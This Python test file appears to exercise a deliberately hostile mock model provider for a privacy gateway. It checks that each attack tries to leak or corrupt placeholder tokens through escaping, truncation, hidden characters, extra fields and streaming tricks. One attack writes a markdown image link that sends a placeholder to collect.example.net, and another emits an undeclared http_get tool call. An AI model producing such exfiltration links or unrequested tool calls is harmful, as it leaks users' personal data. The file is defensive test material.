"""The hostile model really attacks: each attack shows its shape, repeats exactly, and is JSON."""

from __future__ import annotations

import json
from collections.abc import Sequence

import pytest
from gateway.providers.requests import EMAIL, PERSON, PLACE, chat, events, said
from hypothesis import given
from hypothesis import strategies as st

from louver.core.errors import UpstreamFailed
from louver.gateway.providers.hostile import Attack, Hostile
from louver.gateway.providers.hostile.splitmix import SplitMix64

TEXT = f"Greet {PERSON}, write to {EMAIL}."
TOOL = {"type": "function", "function": {"name": "note", "parameters": {"type": "object"}}}
BODY = chat(TEXT, tools=[TOOL])


def words(*attacks: Attack, seed: int = 0) -> str:
    return said(Hostile(PLACE, attacks=attacks, seed=seed), chat(TEXT))


def stream(*attacks: Attack) -> list[dict[str, object]]:
    return events(Hostile(PLACE, attacks=attacks), BODY, stream=True)


def choices(event: dict[str, object]) -> list[dict[str, object]]:
    found = event["choices"]
    assert isinstance(found, list)
    return found


def deltas(chunks: Sequence[dict[str, object]]) -> list[dict[str, object]]:
    found = [choice["delta"] for event in chunks for choice in choices(event)]
    return [delta for delta in found if isinstance(delta, dict)]


def pieces(*attacks: Attack) -> list[object]:
    return [delta["content"] for delta in deltas(stream(*attacks)) if "content" in delta]


@pytest.mark.parametrize(
    ("attack", "shown"),
    [
        (Attack.ECHO, TEXT),
        (Attack.INFLECT, f"{PERSON}'s {PERSON}s"),
        (Attack.REORDER, f"{EMAIL} {PERSON}"),
        (Attack.REORDER, "PERSON_QRTVWXZBCDFG"),
        (Attack.TRUNCATE, "PERSON_KXQWRTZPLMB\n"),
        (Attack.TRUNCATE, "\nERSON_KXQWRTZPLMBV\n"),
        (Attack.RECASE, PERSON.lower()),
        (Attack.ESCAPE_HTML, "PERSON&#95;KXQWRTZPLMBV"),
        (Attack.ESCAPE_JSON, r"\u0050\u0045\u0052"),
        (Attack.ESCAPE_MARKDOWN, r"PERSON\_KXQWRTZPLMBV"),
        (Attack.ESCAPE_URL, "PERSON%5FKXQWRTZPLMBV"),
        (Attack.DISGUISE, "P\u200bE\u200bR"),
        (Attack.INVENT, "LITERAL_"),
        (Attack.LINKS, f"![](https://collect.example.net/{PERSON}.png)"),
        (Attack.FORMULA, "P E R S O N"),
        (Attack.CONTROLS, f"\0{PERSON}\0"),
    ],
)
def test_what_each_attack_writes(attack: Attack, shown: str) -> None:
    assert shown in words(attack)


def test_near_misses_miss() -> None:
    missed = words(Attack.NEAR_MISS).split()
    assert len(missed) == 2 * 12 * 3
    assert not {PERSON, EMAIL} & set(missed)


def test_splitting_goes_down_to_one_character() -> None:
    assert all(len(str(piece)) <= 1 for piece in pieces(Attack.SPLIT, Attack.INFLECT))
    assert any(len(str(piece)) > 1 for piece in pieces(Attack.INFLECT))


def test_surrogates_are_split_over_chunks() -> None:
    raw = json.dumps(pieces(Attack.SURROGATES))
    assert r'"\ud83e", "\ude9f"' in raw


def test_tools_nobody_declared_and_arguments_that_break_escaping() -> None:
    (event,) = events(
        Hostile(PLACE, attacks=[Attack.UNDECLARED_TOOL, Attack.TOOL_ARGUMENTS]), BODY, stream=False
    )
    message = choices(event)[0]["message"]
    assert isinstance(message, dict)
    functions = [call["function"] for call in message["tool_calls"]]
    assert [function["name"] for function in functions] == ["http_get", "note"]
    arguments = json.loads(functions[1]["arguments"])
    assert arguments["keys"] == {PERSON: PERSON, EMAIL: EMAIL}
    assert json.loads(json.loads(arguments["nested"])["inner"]) == {"deepest": [PERSON, EMAIL]}


def test_choices_probabilities_and_fields_that_nobody_asked_for() -> None:
    chunks = stream(Attack.ECHO, Attack.EXTRA_CHOICES, Attack.LOGPROBS, Attack.EXTRA_FIELDS)
    assert {choice["index"] for event in chunks for choice in choices(event)} == {0, 1, 2}
    assert PERSON in json.dumps([choice["logprobs"] for e in chunks for choice in choices(e)])
    assert all(delta["reasoning_content"] == f"{PERSON} {EMAIL}" for delta in deltas(chunks))
    assert chunks[0]["x_debug"] == [PERSON, EMAIL]


@pytest.mark.parametrize("attack", [Attack.ERROR, Attack.RESET])
def test_answers_that_fail(attack: Attack) -> None:
    for streamed in (True, False):
        with pytest.raises(UpstreamFailed) as caught:
            events(Hostile(PLACE, attacks=[Attack.ECHO, attack]), BODY, stream=streamed)
        assert (PERSON.encode() in caught.value.body) is (attack is Attack.ERROR)


def test_unasked_it_makes_every_attack_that_lets_an_answer_end() -> None:
    raw = json.dumps(events(Hostile(PLACE), BODY, stream=False))
    assert PERSON in raw
    assert "http_get" in raw
    assert "x_debug" in raw


@given(st.lists(st.sampled_from(Attack), max_size=4, unique=True), st.integers(0, 5), st.booleans())
def test_it_repeats_exactly(attacks: list[Attack], seed: int, streamed: bool) -> None:
    def run() -> tuple[list[dict[str, object]], str]:
        try:
            return events(Hostile(PLACE, attacks=attacks, seed=seed), BODY, stream=streamed), ""
        except UpstreamFailed as failure:
            return [], failure.code

    assert run() == run()


def test_seeds_differ() -> None:
    assert words(Attack.INVENT, seed=1) != words(Attack.INVENT, seed=2)


def test_the_generator_gives_the_published_numbers() -> None:
    noise = SplitMix64(1234567)
    assert [noise.next() for _ in range(3)] == [
        6457827717110365317,
        3203168211198807973,
        9817491932198370423,
    ]
